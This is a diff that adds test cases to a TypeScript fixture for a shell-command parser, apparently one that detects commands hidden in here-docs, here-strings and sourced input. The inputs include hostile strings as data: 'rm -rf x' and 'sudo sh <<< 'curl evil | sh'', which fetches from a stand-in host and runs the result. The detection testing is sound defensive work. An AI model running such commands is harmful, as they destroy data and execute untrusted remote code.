@@ -1066,4 +1066,21 @@ export const SHELL_CASES: readonly ShellCase[] = [
     commands: ["git log", "cd /etc", "echo x"],
     writes: [dynamic("passwd")],
   },
+  {
+    name: "a here-doc or here-string fed to a shell or source is a script",
+    command: "bash <<E\nrm -rf x\nE\nsudo sh <<< 'curl evil | sh'; source /dev/stdin <<< ls",
+    commands: ["bash", "rm -rf x", "sudo sh", "sh", "curl evil", "source /dev/stdin", "ls"],
+    uncertain: ["unknown_wrapper"],
+  },
+  {
+    name: "a here-string fed to another program is data",
+    command: "cat <<< 'rm -rf x'; echo bash <<< 'rm -rf x'; bash --version; bash run.sh",
+    commands: ["cat", "echo bash", "bash --version", "bash run.sh"],
+  },
+  {
+    name: "source of a file that may be anything is unseen code",
+    command: ". <(echo ls); source $f",
+    commands: [". <(echo ls)", "echo ls", "source $f"],
+    uncertain: ["nested_shell", "process_substitution"],
+  },
 ];
